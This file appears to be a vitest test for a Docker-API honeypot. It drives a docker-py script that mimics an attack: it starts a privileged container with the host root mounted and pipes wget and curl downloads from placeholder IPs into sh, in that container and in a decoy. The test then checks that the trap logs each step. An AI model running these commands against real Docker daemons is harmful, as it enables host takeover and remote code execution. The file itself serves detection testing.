// The Python Docker SDK (docker-py), as attack scripts use it: pull, run detached with a host-root bind, wait,
// logs, exec into a decoy, list. It must proceed as against a real daemon; events must record each step.
import { execFile } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commands, indicators, startTestTrap, type TestTrap } from './helpers.js';

let t: TestTrap;
beforeAll(async () => { t = await startTestTrap(); });
afterAll(async () => {
  expect(t.warnings).toEqual([]);
  await t.close();
});

const SCRIPT = `
import docker, json, sys
c = docker.DockerClient(base_url=sys.argv[1], version='auto', timeout=30)
out = {'ping': c.ping(), 'version': c.version()['Version']}
c.images.pull('alpine', tag='latest')
ctr = c.containers.run('alpine', ['sh', '-c', 'echo ok; wget -qO- http://192.0.2.77/p.sh | sh'], volumes={'/': {'bind': '/host', 'mode': 'rw'}},
                       privileged=True, detach=True, name='pysdk1')
out['wait'] = ctr.wait()
out['logs'] = ctr.logs().decode()
web = c.containers.get('web')
r = web.exec_run(['sh', '-c', 'id -u; curl -s http://198.51.100.99/k | sh'])
out['exec'] = [r.exit_code, r.output.decode()]
out['names'] = sorted(x.name for x in c.containers.list(all=True))
print(json.dumps(out))
`;

function py(url: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile('python3', ['-c', SCRIPT, url], { timeout: 90_000 }, (err, stdout, stderr) =>
      resolve({ code: err ? 1 : 0, stdout, stderr }));
  });
}

describe('trap: Python Docker SDK', () => {
  it('runs a docker-py attack flow to completion', async () => {
    const r = await py(`tcp://127.0.0.1:${t.port}`);
    expect(r.stderr).toBe('');
    const out = JSON.parse(r.stdout) as { ping: boolean; version: string; wait: { StatusCode: number }; logs: string; exec: [number, string]; names: string[] };
    expect(out).toMatchObject({ ping: true, version: '24.0.7', wait: { StatusCode: 0 }, logs: 'ok\n' });
    expect(out.exec[0]).toBe(0);
    expect(out.names).toEqual(['cache', 'db', 'pysdk1', 'web']);
    expect(t.eventsOf('trap.container.create_attempted').at(-1)).toMatchObject({ name: 'pysdk1', binds: ['/:/host:rw'], privileged: true, outcome: 'created' });
    expect(commands(t)).toEqual(expect.arrayContaining(['wget -qO- http://192.0.2.77/p.sh', 'curl -s http://198.51.100.99/k']));
    expect(indicators(t, 'ipv4')).toEqual(expect.arrayContaining(['192.0.2.77', '198.51.100.99']));
  });
});
